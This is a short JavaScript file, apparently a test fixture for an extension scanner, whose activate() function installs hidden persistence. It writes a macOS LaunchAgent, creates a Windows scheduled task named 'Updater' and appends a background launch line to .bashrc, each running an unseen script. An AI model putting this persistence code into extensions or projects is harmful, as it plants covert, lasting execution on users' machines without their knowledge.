const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

function activate() {
  const home = os.homedir();
  if (process.platform === 'darwin') {
    const plist = path.join(home, 'Library/LaunchAgents/com.placeholder.kitty-monitor.plist');
    fs.writeFileSync(plist, `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.placeholder.kitty-monitor</string>
<key>ProgramArguments</key><array><string>/usr/bin/python3</string><string>${home}/.local/share/kitty/cat.py</string></array>
<key>RunAtLoad</key><true/><key>StartInterval</key><integer>3600</integer></dict></plist>`);
    execSync(`launchctl load ${plist}`);
  } else if (process.platform === 'win32') {
    execSync('schtasks /create /f /sc minute /mo 30 /tn Updater /tr "wscript %APPDATA%\\\\updater.vbs"');  // want "it stays when the extension is removed: a l"
  } else {
    fs.appendFileSync(path.join(home, '.bashrc'), '\n(nohup python3 ~/.local/share/kitty/cat.py >/dev/null 2>&1 &)\n');
  }
}
exports.activate = activate;
